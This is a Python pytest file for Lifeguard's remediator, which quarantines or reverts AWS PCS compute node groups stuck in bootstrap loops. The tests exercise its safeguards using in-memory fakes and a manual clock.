"""The remediator (`lifeguard.remediation`) without a local AWS: Lifeguard's table and bus are in-memory
fakes, PCS is the project's local PCS model in process (`fakes.LocalPcsClient`) on a manual clock, and every
wait goes through the sleep the composition root is given, which moves that clock."""

from __future__ import annotations

import contextlib
import copy
import json
import random
import re
import string
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from botocore.exceptions import ReadTimeoutError, SSLError

from lifeguard.aws.eventbridge import EventPublisher
from lifeguard.aws.pcs import PcsGateway
from lifeguard.bounds import utc
from lifeguard.detection import DetectionSettings
from lifeguard.errors import AwsCallError
from lifeguard.event_contract import DETAIL_KEYS, ControllerEvent, make_detail
from lifeguard.group_state import Episode, Failure, GroupState, KnownConfig, ProvenGood, Suspect
from lifeguard.handlers.updater import Change, GroupUpdater
from lifeguard.lifecycle import fingerprint_of
from lifeguard.lifecycle_rules import drains_kept_nodes, find_problems
from lifeguard.metrics import Metric
from lifeguard.remediation import (
    AuditEntry,
    NodeBundle,
    RemediationParkedError,
    RemediationSettings,
    Remediator,
)
from lifeguard.remediation.actions import ActionContext, Quarantine
from lifeguard.remediation.records import AppliedChange
from lifeguard.store.groups import GroupStore
from lifeguard.store.remediations import RemediationStore
from lifeguard.wiring import Wiring, build_remediate
from lifeguard_cli import operate
from lifeguard_cli.local.pcs.resources import Call
from lifeguard_cli.operate import Operator, OperatorError
from tests.conftest import ARTICLE_SUSPECT, load_event
from tests.unit.fakes import FakeDynamoDB, FakeEventBridge, client_error, local_pcs_with_group

CLUSTER, GROUP = "pcs_abc123de45", "pcs_abcdef01"
TABLE, BUS = "lifeguard", "lifeguard-bus"
START = datetime(2026, 10, 21, 1, 20, tzinfo=UTC)
TERMINATE = load_event("configs/article-terminate.json")
GOOD = load_event("configs/article-reverted.json")
QUARANTINED = copy.deepcopy(TERMINATE)
QUARANTINED["stages"]["nodeBootstrapped"][0]["onError"] = "STOP_SEQUENCE"
QUARANTINE_DIFF = [{"path": "stages.nodeBootstrapped[0].onError", "old": "TERMINATE", "new": "STOP_SEQUENCE"}]
FAILURES = [
    {
        "instance_id": "i-059b4b99b4f2e9739",
        "scheduler_node_id": "lca-static-1",
        "event_timestamp": 1792544802000,
    },
    {
        "instance_id": "i-06644f6e5a2b001c9",
        "scheduler_node_id": "lca-static-1",
        "event_timestamp": 1792545162000,
    },
]


class World:
    """The article's looping group in a local PCS (an update keeps it UPDATING for a minute), Lifeguard's
    table and bus, and remediators built by the composition root on one manual clock."""

    def __init__(self, *, tags: dict[str, str] | None = None) -> None:
        self.clock, self.pcs, self.api = local_pcs_with_group(
            START, CLUSTER, GROUP, TERMINATE, update_seconds=60, tags=tags
        )
        self.table = FakeDynamoDB()
        self.bus = FakeEventBridge()
        self.store = GroupStore(self.table, TABLE)
        self.sleeps: list[float] = []

    def now(self) -> float:
        return self.clock().timestamp()

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.clock.advance(seconds)

    def remediator(self, *, metric: Metric | None = None, **settings: Any) -> Remediator:
        publisher = EventPublisher(self.bus, BUS, sleep=lambda _: None)
        wiring = Wiring(
            self.store,
            PcsGateway(self.api),
            GroupUpdater(self.store, publisher, clock=self.now),
            DetectionSettings(mode="quarantine", threshold=2, window_minutes=60),
        )
        return build_remediate(
            wiring,
            settings=RemediationSettings(**{"default_mode": "quarantine", **settings}),
            pcs=PcsGateway(self.api),
            clock=self.now,
            sleep=self.sleep,
            metric=metric,
        )

    def operator(self) -> Operator:
        """The operator's CLI on this table and PCS."""
        return Operator(TABLE, client=lambda service: self.table if service == "dynamodb" else self.api)

    def group(self) -> dict[str, Any]:
        found: dict[str, Any] = self.api.get_compute_node_group(
            clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP
        )["computeNodeGroup"]
        return found

    def person_sets(self, actions: dict[str, Any]) -> None:
        """Someone runs update-compute-node-group, once the group is ACTIVE again."""
        self.settle()
        self.api.update_compute_node_group(
            clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP, nodeLifecycleActions=actions
        )
        self.settle()

    @contextlib.contextmanager
    def answers_lost(self) -> Iterator[None]:
        """PCS takes the update and its answer is lost; from then on it answers nothing, not even the
        retry's look at the group (until the block ends)."""
        update, read, asked = self.api.update_compute_node_group, self.api.get_compute_node_group, []

        def taken_but_answer_lost(**params: Any) -> Any:
            asked.append(params)
            update(**params)
            raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

        def unanswered_once_asked(**params: Any) -> Any:
            if asked:
                raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")
            return read(**params)

        self.api.update_compute_node_group = taken_but_answer_lost
        self.api.get_compute_node_group = unanswered_once_asked
        try:
            yield
        finally:
            self.api.update_compute_node_group, self.api.get_compute_node_group = update, read

    def settle(self) -> None:
        self.clock.advance(120)

    def prove_good(self, actions: dict[str, Any]) -> None:
        state = self.store.load(CLUSTER, GROUP)
        state.proven_good = ProvenGood(
            fingerprint=fingerprint_of(actions),
            node_lifecycle_actions=actions,
            modified_at=1792540000000,
            proven_at=1792540117000,
            instance_id="i-0a1b2c3d4e5f60718",
        )
        self.store.save(state)

    def detection(self, episode: str = "ep-1", revision: int = 1) -> dict[str, Any]:
        """A BootstrapLoopDetected event of the group as PCS holds it now, its episode open in Lifeguard's
        state, as the scaling_events handler leaves it before it publishes one."""
        group = self.group()
        actions = group.get("nodeLifecycleActions")
        modified_at = int(group["modifiedAt"].timestamp() * 1000)
        state = self.store.load(CLUSTER, GROUP)
        state.episode = Episode(
            episode_id=episode,
            kind="loop",
            opened_at=1792545162000,
            config_modified_at=modified_at,
            config_fingerprint=fingerprint_of(actions),
            failures=[Failure.model_validate(f) for f in FAILURES],
            suspect=Suspect.model_validate(ARTICLE_SUSPECT),
            revision=revision,
        )
        self.store.save(state)
        detail = make_detail(
            episode_id=episode,
            cluster_id=CLUSTER,
            compute_node_group_id=GROUP,
            kind="loop",
            failures=FAILURES,
            suspect=ARTICLE_SUSPECT,
            mode="quarantine",
            config_before=actions,
            revision=revision,
            config_fingerprint=fingerprint_of(actions),
            config_modified_at=modified_at,
        )
        return {"detail-type": "BootstrapLoopDetected", "source": "lifeguard", "detail": detail}

    def calls(self, operation: str) -> list[Call]:
        return [call for call in self.pcs.calls if call.operation == operation]

    def lifeguard_updates(self) -> list[Call]:
        """UpdateComputeNodeGroup calls PCS took from Lifeguard (a person's carry botocore's own token)."""
        return [
            call
            for call in self.calls("UpdateComputeNodeGroup")
            if call.error is None and call.params["clientToken"].startswith("lifeguard-")
        ]

    def history(self) -> list[AuditEntry]:
        return RemediationStore(self.table, TABLE).history(CLUSTER, GROUP)


def test_quarantine_switches_the_other_script_a_loops_nodes_failed_on_as_its_episode_says() -> None:
    world = World()
    detection = world.detection()
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.also_failing = ["nodeBootstrapped/record-after-fail", "nodeBootstrapped"]  # one bad entry
    world.store.save(state)
    [applied] = world.remediator().handle_event(detection)
    assert applied.detail_type == "RemediationApplied"
    both = copy.deepcopy(QUARANTINED)
    both["stages"]["nodeBootstrapped"][1]["onError"] = "STOP_SEQUENCE"
    assert world.group()["nodeLifecycleActions"] == both
    assert "also switched nodeBootstrapped › record-after-fail" in applied.detail["reason"]


def test_quarantine_switches_the_failing_script_to_stop_sequence_on_the_group() -> None:
    world = World()
    events = world.remediator().handle_event(world.detection())
    assert [e.detail_type for e in events] == ["RemediationApplied"]
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    [update] = world.lifeguard_updates()
    assert update.params["nodeLifecycleActions"] == QUARANTINED
    [(detail_type, detail)] = world.bus.events()
    assert detail_type == "RemediationApplied"
    assert set(DETAIL_KEYS) <= set(detail)
    assert (detail["mode"], detail["action"], detail["dry_run"]) == ("quarantine", "quarantine", False)
    assert (detail["config_before"], detail["config_after"]) == (TERMINATE, QUARANTINED)
    assert detail["diff"] == QUARANTINE_DIFF
    assert detail["undo"] == f"lifeguard undo {GROUP} --cluster {CLUSTER}"
    [entry] = world.history()
    assert (entry.decision, entry.action, entry.config_before, entry.config_after) == (
        "applied",
        "quarantine",
        TERMINATE,
        QUARANTINED,
    )
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert (change.status, change.client_token) == ("applied", update.params["clientToken"])


def test_revert_puts_back_the_proven_good_configuration() -> None:
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    [event] = world.remediator().handle_event(world.detection())
    assert (event.detail_type, event.detail["action"], event.detail["mode"]) == (
        "RemediationApplied",
        "revert",
        "revert",
    )
    assert world.group()["nodeLifecycleActions"] == GOOD
    assert (event.detail["config_before"], event.detail["config_after"]) == (TERMINATE, GOOD)
    assert "back to the configuration proven good by i-0a1b2c3d4e5f60718" in event.detail["reason"]
    assert len(world.lifeguard_updates()) == 1


def test_a_revert_to_an_old_proof_says_how_old_it_is() -> None:
    """A revert puts back the last configuration a node proved, however long ago, taking out whatever was
    changed since: the reason says how many days old the proof is."""
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    proven_at = utc(1792540117000)
    [fresh] = world.remediator().handle_event(world.detection())
    assert fresh.detail["reason"].endswith(f"proven good by i-0a1b2c3d4e5f60718 at {proven_at}.")  # hours old
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    world.clock.advance(200 * 86_400)
    [old] = world.remediator().handle_event(world.detection())
    assert old.detail["reason"].endswith(f"proven good by i-0a1b2c3d4e5f60718 at {proven_at}, 200 days ago.")


def no_script_failed(world: World) -> dict[str, Any]:
    """A detection whose failing nodes reported every script they ran as succeeded."""
    event = world.detection()
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.suspect = None
    state.episode.no_script_failed = True
    world.store.save(state)
    event["detail"]["suspect"] = None
    return event


def test_a_loop_no_script_caused_is_not_quarantined_and_the_event_says_why() -> None:
    world = World()
    [event] = world.remediator().handle_event(no_script_failed(world))
    assert event.detail_type == "RemediationSkipped"
    assert "no script failed on these nodes" in event.detail["reason"]
    assert "no script is switched" in event.detail["reason"]
    assert world.lifeguard_updates() == []
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_loop_no_script_caused_is_still_reverted_when_it_began_with_a_configuration_change() -> None:
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    [event] = world.remediator().handle_event(no_script_failed(world))
    assert (event.detail_type, event.detail["action"]) == ("RemediationApplied", "revert")
    assert world.group()["nodeLifecycleActions"] == GOOD


def test_revert_says_on_what_evidence_the_configuration_was_proven_good() -> None:
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    state = world.store.load(CLUSTER, GROUP)
    assert state.proven_good is not None
    state.proven_good.evidence = "BOOTSTRAP_SUCCESS, and its reports show 3 script run(s), none failed"
    world.store.save(state)
    [event] = world.remediator().handle_event(world.detection())
    assert "(BOOTSTRAP_SUCCESS, and its reports show 3 script run(s), none failed)" in event.detail["reason"]


@pytest.mark.parametrize(
    ("tags", "settings", "says"),
    [
        ({"lifeguard:mode": "notify"}, {}, "Dry run (mode notify), nothing was changed"),
        ({}, {"dry_run": True}, "Dry run (the stack's DryRun is on), nothing was changed"),
    ],
)
def test_notify_and_dry_run_change_nothing_but_say_what_quarantine_would_do(
    tags: dict[str, str], settings: dict[str, Any], says: str
) -> None:
    world = World(tags=tags)
    [event] = world.remediator(**settings).handle_event(world.detection())
    assert event.detail_type == "RemediationSkipped"
    assert event.detail["dry_run"] is True
    assert event.detail["reason"].startswith(says)
    assert "quarantine would change: onError STOP_SEQUENCE for" in event.detail["reason"]
    assert event.detail["diff"] == QUARANTINE_DIFF
    assert event.detail["config_after"] == QUARANTINED  # what it would be
    assert world.calls("UpdateComputeNodeGroup") == []
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert [(e.decision, e.dry_run) for e in world.history()] == [("skipped", True)]
    assert [t for t, _ in world.bus.events()] == ["RemediationSkipped"]


def test_a_mistyped_tag_is_said_in_the_outcome_not_only_in_a_log() -> None:
    """`quarantin` fails closed (notify), and `yes` is no drain setting: whoever typed them reads why
    nothing changed where they read the outcome, in its reason."""
    world = World(tags={"lifeguard:mode": "quarantin", "lifeguard:drain": "yes"})
    [event] = world.remediator().handle_event(world.detection())
    assert event.detail_type == "RemediationSkipped"
    reason = event.detail["reason"]
    assert reason.startswith("Dry run (mode notify), nothing was changed")
    assert reason.endswith(
        "Tag ignored: tag lifeguard:mode: 'quarantin' is not one of quarantine, revert, notify, off; notify "
        "until it is one; tag lifeguard:drain: 'yes' is not true or false; not draining kept nodes."
    )
    [audit] = world.history()
    assert "Tag ignored: tag lifeguard:mode: 'quarantin'" in audit.reason
    # Tags that say what they mean add nothing.
    world = World(tags={"lifeguard:mode": "notify", "lifeguard:drain": "false"})
    [event] = world.remediator().handle_event(world.detection())
    assert "Tag ignored" not in event.detail["reason"]


def test_a_remediation_waits_for_one_that_holds_the_lock_while_its_group_is_updating() -> None:
    """The first revision's remediation may hold the group's lock for minutes (its group UPDATING, waited
    for up to `update_wait_seconds`): a later one gave up after 30 s, and with Lambda's retries was parked as
    busy, paging someone for nothing."""
    world = World()
    locks = RemediationStore(world.table, TABLE)
    assert locks.acquire(CLUSTER, GROUP, "the-first", world.now(), 600)
    released_at = world.now() + 250  # the first's group was UPDATING for four minutes
    waited = world.sleep

    def sleep(seconds: float) -> None:
        waited(seconds)
        if world.now() >= released_at:
            locks.release(CLUSTER, GROUP, "the-first")

    world.sleep = sleep  # type: ignore[method-assign]
    [event] = world.remediator().handle_event(world.detection())
    assert event.detail_type == "RemediationApplied"
    assert 250 <= sum(world.sleeps) < 300


def test_a_new_episode_within_the_cooldown_is_refused_with_a_reason_and_audited() -> None:
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    remediator.handle_event(world.detection("ep-1"))
    world.person_sets(TERMINATE)  # someone puts the broken script back: the loop starts again
    [event] = remediator.handle_event(world.detection("ep-2"))
    assert event.detail_type == "RemediationSkipped"
    assert event.detail["reason"].startswith("Cooldown: Lifeguard changed this group 4 min ago")
    assert "quarantine would change" in event.detail["reason"]
    # Held back, not let go: the decision says until when, which scaling_events reads to have the loop,
    # if it goes on, decided again then.
    [first] = [e for e in world.history() if e.episode_id == "ep-1"]
    decision = RemediationStore(world.table, TABLE).decision(CLUSTER, GROUP, "ep-2", 1)
    assert decision is not None
    assert decision.held_until == first.at + 1800
    assert event.detail["reason"].endswith(
        f"Lifeguard decides again at the loop's first failure after {utc(int((first.at + 1800) * 1000))}."
    )
    assert event.detail["diff"] == QUARANTINE_DIFF
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert len(world.lifeguard_updates()) == 1
    assert [(e.episode_id, e.decision) for e in world.history()] == [("ep-1", "applied"), ("ep-2", "skipped")]
    assert world.history()[-1].reason == event.detail["reason"]
    # The event says nothing changed (the contract's dry_run); the audit, what `lifeguard status` shows as
    # "(dry run)", says whether mode notify or DryRun held it back: not here.
    assert (event.detail["dry_run"], world.history()[-1].dry_run) == (True, False)
    assert [t for t, _ in world.bus.events()] == ["RemediationApplied", "RemediationSkipped"]


def test_a_failing_configuration_put_back_is_not_fought_within_the_cooldown() -> None:
    """The loop of an episode goes on after someone else's change over Lifeguard's (a deploy putting the
    failing configuration back): the ladder starts again, and that is no escalation. Lifeguard answered at
    once, and at every such deploy (three changes in 8 minutes, each draining and replacing the group's
    nodes, the article), bound only by the daily cap; it is held by the cooldown as a new episode is."""
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    remediator.handle_event(world.detection("ep-1"))
    world.person_sets(TERMINATE)
    [held] = remediator.handle_event(world.detection("ep-1", revision=2))
    assert held.detail_type == "RemediationSkipped"
    assert held.detail["reason"].startswith("Cooldown: Lifeguard changed this group ")
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert len(world.lifeguard_updates()) == 1
    world.clock.advance(1800)  # the cooldown over, the loop still going: the ladder starts again
    [applied] = remediator.handle_event(world.detection("ep-1", revision=3))
    assert applied.detail_type == "RemediationApplied"
    assert "the ladder starts again, at quarantine" in applied.detail["reason"]
    assert len(world.lifeguard_updates()) == 2


def test_the_daily_cap_refuses_a_change_until_a_day_has_passed() -> None:
    world = World()
    remediator = world.remediator(cooldown_seconds=60, daily_cap=1)
    remediator.handle_event(world.detection("ep-1"))
    world.person_sets(TERMINATE)
    [capped] = remediator.handle_event(world.detection("ep-2"))
    assert capped.detail_type == "RemediationSkipped"
    assert capped.detail["reason"].startswith(
        "Daily cap: Lifeguard already changed this group once in 24 h; Lifeguard decides again"
    )
    [first] = [e for e in world.history() if e.episode_id == "ep-1"]
    decision = RemediationStore(world.table, TABLE).decision(CLUSTER, GROUP, "ep-2", 1)
    assert decision is not None
    assert decision.held_until == first.at + 24 * 3600
    assert len(world.lifeguard_updates()) == 1
    world.clock.advance(24 * 3600)
    [applied] = remediator.handle_event(world.detection("ep-3"))
    assert applied.detail_type == "RemediationApplied"
    assert len(world.lifeguard_updates()) == 2
    assert [e.decision for e in world.history()] == ["applied", "skipped", "applied"]


@pytest.mark.parametrize("spacing", [120, 2 * 3600])
def test_the_daily_cap_holds_when_the_ledger_lets_changes_of_large_configurations_go(spacing: int) -> None:
    # Two ~57 KiB configurations a change (under the 64 KiB Lifeguard keeps): the ledger item holds two
    # changes, and the cap of three still counts the ones it let go, hours after it let them go.
    rng = random.Random(1)
    large = copy.deepcopy(TERMINATE)
    large["stages"]["nodeReady"] += [
        {
            "name": f"pad-{n}",
            "onError": "CONTINUE",
            "scriptSource": {"scriptLocation": f"s3://bucket-x/pad-{n}.sh"},
            "arguments": ["".join(rng.choice(string.ascii_letters) for _ in range(256)) for _ in range(20)],
        }
        for n in range(15)
    ]
    world = World()
    world.person_sets(large)
    remediator = world.remediator(cooldown_seconds=60, daily_cap=3)
    decided = []
    for n in range(1, 5):
        [event] = remediator.handle_event(world.detection(f"ep-{n}"))
        decided.append(event.detail_type)
        world.person_sets(large)  # the failing script put back: a new loop
        world.clock.advance(spacing)
    assert decided == ["RemediationApplied"] * 3 + ["RemediationSkipped"]
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert len(ledger.changes) < 3  # the item let some go
    assert len(world.lifeguard_updates()) == 3


def test_a_detection_delivered_again_is_answered_from_the_stored_decision() -> None:
    world = World()
    remediator = world.remediator()
    event = world.detection()
    remediator.handle_event(event)
    world.settle()
    calls = len(world.pcs.calls)
    assert remediator.handle_event(event) == []
    assert world.remediator().handle_event(event) == []  # another container: the decision is in the table
    assert len(world.pcs.calls) == calls  # not even a read of the group
    assert len(world.lifeguard_updates()) == 1
    assert [t for t, _ in world.bus.events()] == ["RemediationApplied"]
    assert [e.decision for e in world.history()] == ["applied", "duplicate", "duplicate"]
    decision = RemediationStore(world.table, TABLE).decision(CLUSTER, GROUP, "ep-1", 1)
    assert decision is not None
    assert (decision.status, decision.deliveries, decision.published) == ("applied", 3, True)


def test_a_change_whose_event_only_a_retry_could_publish_is_counted_applied_once() -> None:
    world = World()
    counted: list[str] = []
    remediator = world.remediator(metric=lambda name, value: counted.extend([name] * int(value)))
    event = world.detection()
    world.bus.refuse_calls = 3  # EventBridge refuses the publisher's three tries: the invocation fails
    with pytest.raises(AwsCallError):
        remediator.handle_event(event)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # the change was made
    world.clock.advance(60)  # Lambda's retry of the same event publishes it
    assert remediator.handle_event(event) == []
    assert [k for k, _ in world.bus.events()] == ["RemediationApplied"]
    assert counted == ["RemediationApplied", "DuplicateDetections"]


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"episode_id": "episode one"}, "episode_id: String should match pattern"),
        ({"config_fingerprint": None}, "config_fingerprint: required"),
        ({"config_modified_at": "yesterday"}, "config_modified_at: Input should be a valid integer"),
        ({"revision": 0}, "revision: Input should be greater than or equal to 1"),
        (
            {"suspect": {"stage": "nodeBooted", "script": "fail-terminate"}},
            "suspect: stage: Input should be 'nodeBootstrapped' or 'nodeReady'",
        ),
    ],
)
def test_an_invalid_detection_is_refused_with_its_problem_named_and_nothing_read_or_changed(
    change: dict[str, Any], problem: str
) -> None:
    world = World()
    event = world.detection()
    event["detail"] = {**event["detail"], **change}
    calls = len(world.pcs.calls)
    [refused] = world.remediator().handle_event(event)
    assert refused.detail_type == "RemediationSkipped"
    assert refused.detail["reason"].startswith("Refused: the detection is not valid (")
    assert problem in refused.detail["reason"]
    assert refused.detail["reason"].endswith("; nothing was changed.")
    assert len(world.pcs.calls) == calls
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert [(e.decision, e.reason) for e in world.history()] == [("skipped", refused.detail["reason"])]
    assert [t for t, _ in world.bus.events()] == ["RemediationSkipped"]


def test_a_detection_that_names_no_valid_group_is_dropped_without_an_event() -> None:
    world = World()
    event = world.detection()
    event["detail"] = {**event["detail"], "cluster_id": "not a cluster"}
    assert world.remediator().handle_event(event) == []
    assert world.bus.entries == []
    assert world.history() == []


@pytest.mark.parametrize("event", [None, [], "BootstrapLoopDetected", 42])
def test_an_event_that_is_no_json_object_is_ignored(event: Any) -> None:
    """EventBridge delivers objects; the function invoked directly with anything else changes nothing."""
    world = World()
    assert world.remediator().handle_event(event) == []
    assert world.bus.entries == []
    assert world.history() == []


def test_a_valid_detection_of_no_open_episode_is_refused_without_a_pcs_call() -> None:
    world = World()
    event = world.detection("ep-1")
    event["detail"] = {**event["detail"], "episode_id": "ep-forged"}
    calls = len(world.pcs.calls)
    [refused] = world.remediator().handle_event(event)
    assert refused.detail_type == "RemediationSkipped"
    assert "Lifeguard has no open episode ep-forged for this group" in refused.detail["reason"]
    assert len(world.pcs.calls) == calls
    # Not a decision on the episode: the real detection is still acted on.
    [applied] = world.remediator().handle_event(world.detection("ep-1"))
    assert applied.detail_type == "RemediationApplied"


def test_the_outcome_names_the_group_as_lifeguard_s_state_knows_it_never_as_the_event_does() -> None:
    world = World()
    event = world.detection("ep-1")
    state = world.store.load(CLUSTER, GROUP)
    group = world.group()
    state.config = KnownConfig(
        modified_at=event["detail"]["config_modified_at"],
        fingerprint=event["detail"]["config_fingerprint"],
        node_lifecycle_actions=group["nodeLifecycleActions"],
        name="lca-static",
        checked_at=event["detail"]["config_modified_at"],
    )
    world.store.save(state)
    forged = copy.deepcopy(event)
    forged["detail"]["episode_id"] = "ep-forged"
    forged["detail"]["compute_node_group_name"] = "all-clear"
    [refused] = world.remediator().handle_event(forged)
    assert refused.detail_type == "RemediationSkipped"
    assert refused.detail["compute_node_group_name"] == "lca-static"
    invalid = copy.deepcopy(forged)
    invalid["detail"]["revision"] = "one"  # not a detection at all: told back by its ids alone
    [told_back] = world.remediator().handle_event(invalid)
    assert told_back.detail_type == "RemediationSkipped"
    assert told_back.detail["compute_node_group_name"] is None
    event["detail"]["compute_node_group_name"] = "all-clear"
    [applied] = world.remediator().handle_event(event)
    assert applied.detail_type == "RemediationApplied"
    assert applied.detail["compute_node_group_name"] == "lca-static"


def test_a_throttled_pcs_is_retried_after_its_retry_after_seconds_on_the_injected_sleep() -> None:
    world = World()
    world.pcs.inject_fault(
        "ThrottlingException", operation="UpdateComputeNodeGroup", times=2, retry_after_seconds=7
    )
    started = time.monotonic()
    [event] = world.remediator().handle_event(world.detection())
    assert time.monotonic() - started < 5  # the 14 s were the manual clock's, not the wall's
    assert event.detail_type == "RemediationApplied"
    assert world.sleeps == [7, 7]
    assert world.clock() - START == timedelta(seconds=14)
    assert [c.error for c in world.calls("UpdateComputeNodeGroup")] == [
        "ThrottlingException",
        "ThrottlingException",
        None,
    ]
    tokens = {c.params["clientToken"] for c in world.calls("UpdateComputeNodeGroup")}
    assert len(tokens) == 1  # every attempt is the same request
    assert world.group()["nodeLifecycleActions"] == QUARANTINED


def test_throttling_that_outlasts_the_retries_parks_the_event_and_its_retry_applies_it(
    caplog: pytest.LogCaptureFixture,
) -> None:
    world = World()
    world.pcs.inject_fault(
        "ThrottlingException", operation="UpdateComputeNodeGroup", times=6, retry_after_seconds=2
    )
    remediator = world.remediator()
    event = world.detection()
    with pytest.raises(
        RemediationParkedError, match=f"^group {GROUP} of cluster {CLUSTER}: .*ThrottlingException"
    ):
        remediator.handle_event(event)
    # One error line of the layer's own names the group and its cluster (Lambda's record of the exception is
    # the function's).
    [said] = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert said.startswith(
        f"group {GROUP} of cluster {CLUSTER}: UpdateComputeNodeGroup failed: ThrottlingException"
    )
    assert world.sleeps == [2, 2, 4, 8, 16]  # retryAfterSeconds, or the backoff when it is longer
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    [(detail_type, detail)] = world.bus.events()
    assert detail_type == "RemediationFailed"
    assert "(after 6 attempts); the event is parked for a retry" in detail["reason"]
    world.clock.advance(60)  # the Lambda retries the same event a minute later
    [applied] = remediator.handle_event(event)
    assert applied.detail_type == "RemediationApplied"
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    assert [e.decision for e in world.history()] == ["failed", "applied"]


@pytest.mark.parametrize("failure", ["InternalFailure", "ServiceUnavailable"])
def test_a_change_failed_by_a_front_end_s_5xx_stays_set_out_for_the_retry_to_settle(failure: str) -> None:
    """A 500 or 503 of AWS's front end (InternalFailure, ServiceUnavailable: codes PCS's model does not
    have) may come after PCS took the change: it was taken as PCS refusing it, let go (`abandoned`), and
    Lambda's retry, finding the group holding the change, reported it skipped as someone else's."""
    world = World()
    world.pcs.inject_fault(failure, operation="UpdateComputeNodeGroup", times=6)
    remediator, event = world.remediator(), world.detection()
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    assert len(world.calls("UpdateComputeNodeGroup")) > 1  # retried
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "pending"  # the retry finds out whether PCS took it
    world.clock.advance(60)
    [applied] = remediator.handle_event(event)
    assert applied.detail_type == "RemediationApplied"
    assert world.group()["nodeLifecycleActions"] == QUARANTINED


def _parked(world: World) -> tuple[Any, dict[str, Any]]:
    """A quarantine PCS refused until the event was parked: its intent stays in the ledger."""
    world.pcs.inject_fault("InternalServerException", operation="UpdateComputeNodeGroup", times=6)
    remediator, event = world.remediator(), world.detection()
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    return remediator, event


def test_a_detection_of_a_cluster_outside_the_stacks_cluster_ids_changes_nothing() -> None:
    """Published before the stack's ClusterIds were narrowed (or put on the bus by someone else): the group
    was quarantined, in a cluster the stack had let go."""
    world = World()
    [event] = world.remediator(clusters=frozenset({"pcs_0fedcba987"})).handle_event(world.detection())
    assert event.detail_type == "RemediationSkipped"
    assert event.detail["reason"] == (
        f"Refused: cluster {CLUSTER} is not one of the stack's ClusterIds; nothing was changed."
    )
    assert world.calls("UpdateComputeNodeGroup") == []
    [applied] = world.remediator(clusters=frozenset({CLUSTER})).handle_event(world.detection())
    assert applied.detail_type == "RemediationApplied"


def test_the_stacks_cluster_ids_are_read_from_its_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LIFEGUARD_CLUSTER_IDS", f" {CLUSTER},pcs_0fedcba987 ")
    assert RemediationSettings.from_environment().clusters == frozenset({CLUSTER, "pcs_0fedcba987"})


@pytest.mark.parametrize("key", ["Lifeguard:Mode", "lifeguard:mode ", "LIFEGUARD:MODE"])
def test_a_mode_tag_whose_key_is_only_like_lifeguards_fails_closed_and_is_said(key: str) -> None:
    """AWS's tag keys are case-sensitive: `Lifeguard:Mode=off` (a capitalised tag convention) was never read
    at all, and the stack's default quarantined the group, with no word of the tag."""
    world = World(tags={key: "off"})
    [event] = world.remediator(default_mode="quarantine").handle_event(world.detection())
    assert event.detail_type == "RemediationSkipped"
    assert world.calls("UpdateComputeNodeGroup") == []
    assert event.detail["reason"].endswith(
        f"Tag ignored: tag {key!r} is not lifeguard:mode (tag keys are case-sensitive); notify until it is."
    )


@pytest.mark.parametrize(
    ("mode", "said"),
    [
        ("off", "The group's tag lifeguard:mode is off"),
        ("notify", "Dry run (mode notify), nothing was changed"),  # notify is a stand-down switch too
    ],
)
def test_a_retry_of_a_parked_change_makes_it_no_longer_once_the_group_is_tagged_to_stand_down(
    mode: str, said: str
) -> None:
    world = World()
    remediator, event = _parked(world)
    world.api.tag_resource(resourceArn=world.group()["arn"], tags={"lifeguard:mode": mode})
    world.clock.advance(60)
    [skipped] = remediator.handle_event(event)
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["reason"] == f"{said}: Lifeguard's quarantine, set out before, was not made."
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_retry_of_a_parked_change_makes_it_no_longer_once_the_stack_is_dry_run() -> None:
    world = World()
    _, event = _parked(world)
    world.clock.advance(60)
    [skipped] = world.remediator(dry_run=True).handle_event(event)  # redeployed with DryRun true
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["reason"] == (
        "Dry run (the stack's DryRun is on), nothing was changed: Lifeguard's quarantine, set out before, "
        "was not made."
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_loop_known_from_node_reports_alone_changes_nothing() -> None:
    """Any node can write any report: until PCS's scaling log bears the loop out, nothing is changed."""
    from lifeguard.remediation.rails import NOT_BORNE_OUT

    world = World()
    event = world.detection()
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.signals = ["node_reports"]
    world.store.save(state)
    [skipped] = world.remediator().handle_event(event)
    assert skipped.detail_type == "RemediationSkipped"
    assert NOT_BORNE_OUT in skipped.detail["reason"]
